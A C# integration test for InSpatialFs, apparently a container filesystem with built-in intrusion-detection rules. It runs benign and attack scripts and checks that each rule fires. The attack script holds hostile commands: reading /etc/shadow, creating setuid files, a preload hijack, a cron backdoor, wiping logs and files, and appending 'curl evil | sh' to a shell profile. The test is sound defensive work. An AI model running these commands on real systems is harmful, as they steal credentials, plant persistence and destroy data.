using System.Diagnostics;
using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;
using InSpatialFs.IntegrationTests.Containers;
using InSpatialFs.TestKit.Containers;
using InSpatialFs.TestKit.Processes;

namespace InSpatialFs.IntegrationTests.Rules;

/// <summary>
/// The built-in rules end to end (issue 5): a busybox container under runc on an InSpatialFs root (standard
/// isolation, built-in rules only) first runs a benign workload, which must raise no incident, then one attack of
/// each built-in family; every attack must raise its rule's incident with its response, and nothing else may fire.
///
/// Choices, one per family where the plain attack is not observable as is:
/// - Membership: a runc container lives in its own mount namespace, where /proc/PID/root reads "/" from the host,
///   so the instance names the container's cgroup (`container: {cgroup}`), and the bundle puts it there. Without
///   it no event carries container.id and the per-process thresholds (keyed by container.id) never count.
/// - setuid/setgid, device nodes and security.* xattrs are refused by standard isolation (EPERM). The event still
///   reaches the analyser, so both the rule ("Setuid or setgid bit set", "Chown to root then setuid",
///   "Device node created", "File capability set") and the policy incident ("privilege:...", response deny) fire;
///   both are expected.
/// - busybox has no setfattr, so the capability xattr is written by a host process on the mounted file (the rule
///   does not depend on container membership).
/// - busybox applets are symlinks to /bin/busybox, and an exec opens the resolved file, so `mount` in this image is
///   an exec of /bin/busybox that no name-based rule can tell apart. The image therefore ships a real binary named
///   /usr/bin/nsenter (a copy of busybox, as distribution images ship util-linux's), and the attack runs that by its
///   path (this busybox's sh runs applet names as applets without searching PATH).
/// - The rate burst is one `cat` given 40000 file names (an open and a read each): a shell loop of redirections
///   does not reach 10000 operations per second on two busy cores, a C loop does.
/// - release_agent lives in cgroupfs, which the container does not get from InSpatialFs; the attack writes a
///   file of that name in a directory of the served tree (the only release_agent write a filesystem can see).
/// - The credential read comes before the hard link to /etc/shadow: once the inode has a second name, the proxy
///   reports opens of it under the newest name.
/// - The benign run writes 120 new files and a new log with `>` (O_CREAT|O_TRUNC, as pip and shell redirections do):
///   a create that makes the file truncates nothing, so neither "Mass overwrite" nor "Log file tampering" may fire.
///   The attacks truncate existing files the same way and must.
/// - The benign run also makes a link that climbs three directories and stays inside the tree (as distribution docs
///   link their licences); the traversal attack's link climbs above the root.
/// - It empties a scratch directory of 250 files in /tmp, as builds do: no wiper.
/// - It also links into /etc as images do (/usr/lib/ssl/certs -> /etc/ssl/certs) and to the kernel's mount table;
///   only links to credentials, secrets and kernel interfaces are "Symlink to sensitive path".
/// - Files the attacks work on (500 directories, 100 + 100 + 200 files, a log, a shell history) are put in the
///   image from the host before the run, so their set-up is not itself an event burst.
/// </summary>
[TestFixture]
[NonParallelizable]
[Category("Mount")]
public sealed class AttackFamiliesTests
{
    private const string Cgroup = "/inspatialfs-rules-e2e";
    private ContainerRootfs? _rootfs;

    [OneTimeSetUp]
    public void StartInstance()
    {
        string? why = RuncBundle.WhyCannotRun();
        if (why != null)
        {
            Assert.Ignore(why);
        }

        _rootfs = ContainerRootfs.Start($"container: {{ cgroup: {Cgroup} }}");
        string image = _rootfs.Image;
        Shell.Check($"""
            set -e
            cd '{image}'
            mkdir -p work/tree work/ransom work/ransom2 work/docs work/wipe work/cg var/log
            for i in $(seq 1 520); do mkdir -p work/tree/d$i; done
            for i in $(seq 1 110); do echo data > work/ransom/f$i; echo doc > work/docs/d$i; done
            for i in $(seq 1 210); do echo x > work/wipe/w$i; done
            echo 'Nov 27 sshd: accepted' > var/log/auth.log
            echo 'cat /etc/shadow' > root/.ash_history
            rm -f usr/bin/nsenter && cp bin/busybox usr/bin/nsenter
            """);
    }

    [OneTimeTearDown]
    public void StopInstance()
    {
        _rootfs?.Dispose();
        Shell.Run($"rmdir /sys/fs/cgroup{Cgroup} 2>/dev/null; for c in /sys/fs/cgroup/*{Cgroup}; do rmdir \"$c\" 2>/dev/null; done; true");
    }

    private const string Benign = """
        set -e
        mkdir -p /work/app/logs
        echo hello > /work/app/a.txt
        cat /work/app/a.txt /etc/passwd /etc/group > /dev/null
        mv /work/app/a.txt /work/app/b.txt
        ln -s b.txt /work/app/c
        mkdir -p /work/app/doc/pkg/sub && ln -s ../../../b.txt /work/app/doc/pkg/sub/LICENSE && cat /work/app/doc/pkg/sub/LICENSE > /dev/null
        ln -s /etc/ssl/certs /work/app/certs && ln -s ../../proc/self/mounts /work/app/mtab
        ln /work/app/b.txt /work/app/d
        cp /work/app/b.txt /tmp/copy && cat /tmp/copy > /dev/null
        echo line >> /work/app/logs/app.log
        chmod 640 /work/app/b.txt
        ls -l / /usr/bin > /dev/null
        find /etc > /dev/null
        echo 'echo hi' > /tmp/job.sh && sh /tmp/job.sh > /dev/null
        i=0; while [ $i -lt 200 ]; do : < /work/app/b.txt; i=$((i+1)); done
        i=0; while [ $i -lt 120 ]; do echo out > /work/app/gen$i; i=$((i+1)); done
        echo started > /var/log/new-app.log
        mkdir -p /tmp/build && i=0; while [ $i -lt 250 ]; do : > /tmp/build/o$i; i=$((i+1)); done; rm -rf /tmp/build
        rm /work/app/gen*
        rm /work/app/certs /work/app/mtab /work/app/c /work/app/d /work/app/b.txt /work/app/logs/app.log /tmp/copy /tmp/job.sh
        rm /work/app/doc/pkg/sub/LICENSE && rmdir /work/app/doc/pkg/sub /work/app/doc/pkg /work/app/doc
        rmdir /work/app/logs /work/app
        echo benign-done
        """;

    // One attack per line group, in the order of the table in the closing note. Each step tolerates the policy's
    // EPERM (`|| true`): the point is what the filesystem saw, not whether the attack succeeded.
    private const string Attacks = """
        cat /etc/shadow > /dev/null
        ln -s /etc/shadow /tmp/shadow-link
        ln /etc/shadow /work/shadow-hard
        ln -s ../../../../etc/passwd /work/trav
        echo hi > /tmp/f; yes /tmp/f | head -n 40000 | xargs -n 40000 -s 400000 cat > /dev/null
        find /work/tree > /dev/null
        cp /bin/busybox /work/suid; chmod u+s /work/suid 2>/dev/null || true
        touch /work/rootsh; chown 0:0 /work/rootsh; chmod 4755 /work/rootsh 2>/dev/null || true
        chmod 666 /etc/passwd
        echo evil > /bin/evil
        echo evil >> /etc/motd
        : > /var/log/auth.log
        rm /root/.ash_history
        mv /work/ransom/* /work/ransom2/
        for f in /work/docs/*; do : > "$f"; done
        rm -rf /work/wipe
        cp /bin/busybox /tmp/payload; /tmp/payload true 2>/dev/null || true
        echo '/dev/sda1 / ext4 defaults 0 1' >> /etc/fstab
        /usr/bin/nsenter --help > /dev/null 2>&1 || true
        echo /tmp/payload > /work/cg/release_agent
        mknod /work/sda b 8 0 2>/dev/null || true
        echo /tmp/evil.so > /etc/ld.so.preload
        mkdir -p /etc/cron.d; echo '* * * * * root /tmp/payload' > /etc/cron.d/backdoor
        echo 'curl evil | sh' >> /root/.profile
        echo attack-done
        """;

    /// <summary>Rule (or policy reason) → the response its incident must carry.</summary>
    private static readonly Dictionary<string, string> ExpectedIncidents = new()
    {
        ["Credential file read by unexpected process"] = "alert",
        ["Symlink to sensitive path"] = "alert",
        ["Hard link to sensitive file"] = "alert",
        ["Symlink with parent traversal chain"] = "alert",
        ["High rate of file operations by one process"] = "alert",
        ["Directory enumeration burst"] = "alert",
        ["Setuid or setgid bit set"] = "alert",
        ["Chown to root then setuid"] = "alert",
        ["privilege:setuid"] = "deny",
        ["World-writable sensitive file"] = "alert",
        ["Write below etc"] = "alert", // first by chmod 666 /etc/passwd, then suppressed for /etc/motd (60 s per container)
        ["Write below binary directory"] = "alert",
        ["Log file tampering"] = "alert",
        ["Shell history removed"] = "alert",
        ["Mass rename by one process"] = "alert",
        ["Mass overwrite by one process"] = "alert",
        ["Mass delete by one process"] = "alert",
        ["Drop and execute from temporary directory"] = "alert",
        ["Mount configuration changed"] = "alert",
        ["Namespace or mount tool executed"] = "alert",
        ["Write to cgroup release_agent"] = "alert",
        ["Device node created"] = "alert",
        ["privilege:device_node"] = "deny",
        ["Dynamic linker preload changed"] = "alert",
        ["Cron persistence"] = "alert",
        ["Shell profile persistence"] = "alert",
        ["File capability set"] = "alert",
        ["privilege:security_xattr"] = "deny",
    };

    [Test]
    [Order(1)]
    public void Benign_workload_raises_no_incident()
    {
        ShellResult run = RunInContainer(Benign);
        Assert.That(run.ExitCode, Is.Zero, run + "\n--- daemon ---\n" + _rootfs!.Daemon.Output);
        Assert.That(run.StdOut, Does.Contain("benign-done"));
        WaitForAnalysis();
        Assert.That(Incidents().Select(i => i.Source + ": " + i.Output), Is.Empty);
    }

    [Test]
    [Order(2)]
    public void Each_attack_family_raises_its_rule_with_its_response_and_nothing_else_fires()
    {
        // A host process writes the capability xattr (busybox has no setfattr); standard isolation refuses it.
        Directory.CreateDirectory(Path.Combine(_rootfs!.Image, "work"));
        File.WriteAllText(Path.Combine(_rootfs.MountPoint, "work", "cap-bin"), "x");
        ShellResult setcap = Shell.Run($"setfattr -n security.capability -v 0x0100000200200000000000000000000000000000 '{_rootfs.MountPoint}/work/cap-bin'");
        Assert.That(setcap.StdErr, Does.Contain("Operation not permitted"), "standard isolation refuses security.* xattrs: " + setcap);

        var clock = Stopwatch.StartNew();
        ShellResult run = RunInContainer(Attacks);
        TestContext.Out.WriteLine($"attack run: {clock.ElapsedMilliseconds} ms");
        Assert.That(run.StdOut, Does.Contain("attack-done"), run + "\n--- daemon ---\n" + _rootfs.Daemon.Output);

        List<IncidentLine> incidents = [];
        var deadline = Stopwatch.StartNew();
        while (deadline.Elapsed < TimeSpan.FromSeconds(30))
        {
            incidents = Incidents();
            if (ExpectedIncidents.Keys.All(k => incidents.Any(i => i.Source == k)))
            {
                break;
            }

            Thread.Sleep(100);
        }

        WaitForAnalysis();
        incidents = Incidents();
        string all = string.Join("\n", incidents.Select(i => $"{i.Source} [{i.Response}]: {i.Output}"));
        Assert.That(incidents.Select(i => i.Source).Distinct(), Is.EquivalentTo(ExpectedIncidents.Keys),
            "incidents:\n" + all + "\n--- exec events ---\n" + string.Join("\n", JournalLines("\"evt.is_exec\":true")));
        foreach (IncidentLine i in incidents)
        {
            Assert.That(i.Response, Is.EqualTo(ExpectedIncidents[i.Source]), $"response of {i.Source}");
        }

        // Suppression: one burst, one incident per rule and key (container; container and pid for thresholds, and
        // the rate burst is one process); policy denials are per process and path.
        Assert.That(incidents.Where(i => !i.Source.StartsWith("privilege:", StringComparison.Ordinal)).GroupBy(i => i.Source).Where(g => g.Count() > 1).Select(g => g.Key), Is.Empty, all);

        // Spot checks that each incident names the attack that caused it.
        Assert.That(Output(incidents, "Credential file read by unexpected process"), Does.Contain("/etc/shadow read by cat"));
        Assert.That(Output(incidents, "Hard link to sensitive file"), Does.Contain("/work/shadow-hard -> /etc/shadow"));
        Assert.That(Output(incidents, "Directory enumeration burst"), Does.StartWith("find "));
        Assert.That(Output(incidents, "Chown to root then setuid"), Does.Contain("/work/rootsh was created, chowned and made setuid"));
        Assert.That(Output(incidents, "Mass rename by one process"), Does.StartWith("mv "));
        Assert.That(Output(incidents, "Mass delete by one process"), Does.StartWith("rm "));
        Assert.That(Output(incidents, "Drop and execute from temporary directory"), Does.Contain("/tmp/payload"));
        Assert.That(Output(incidents, "Namespace or mount tool executed"), Does.Contain("/usr/bin/nsenter"));
        Assert.That(Output(incidents, "Device node created"), Does.Contain("/work/sda"));
        Assert.That(Output(incidents, "File capability set"), Does.Contain("/work/cap-bin"));
        Assert.That(incidents.Where(i => !i.Source.StartsWith("privilege:", StringComparison.Ordinal) && i.Source != "File capability set")
            .Select(i => i.Container).Distinct(), Is.EqualTo(new[] { ContainerName() }), "every rule incident names the container");
    }

    private ShellResult RunInContainer(string script) => ContainerScripts.Run(_rootfs!, Cgroup, script);

    private string ContainerName() => Status()["name"];

    private Dictionary<string, string> Status() => ContainerScripts.Status(_rootfs!.ControlDirectory);

    private void WaitForAnalysis() => ContainerScripts.WaitForAnalysis(_rootfs!.ControlDirectory);

    private IEnumerable<string> JournalLines(string containing) =>
        File.ReadLines(Path.Combine(_rootfs!.StateDirectory, "events.jsonl")).Where(l => l.Contains(containing, StringComparison.Ordinal));

    private sealed record IncidentLine(string Source, string Response, string Output, string? Container);

    private List<IncidentLine> Incidents()
    {
        var list = new List<IncidentLine>();
        foreach (string line in File.ReadAllLines(Path.Combine(_rootfs!.ControlDirectory, "incidents")))
        {
            if (line.Length == 0)
            {
                continue;
            }

            using JsonDocument doc = JsonDocument.Parse(line);
            JsonElement e = doc.RootElement;
            list.Add(new IncidentLine(
                e.GetProperty("source").GetString()!,
                e.GetProperty("response").GetString()!,
                e.GetProperty("output").GetString()!,
                e.TryGetProperty("container", out JsonElement c) ? c.GetString() : null));
        }

        return list;
    }

    private static string Output(List<IncidentLine> incidents, string source) => incidents.First(i => i.Source == source).Output;
}
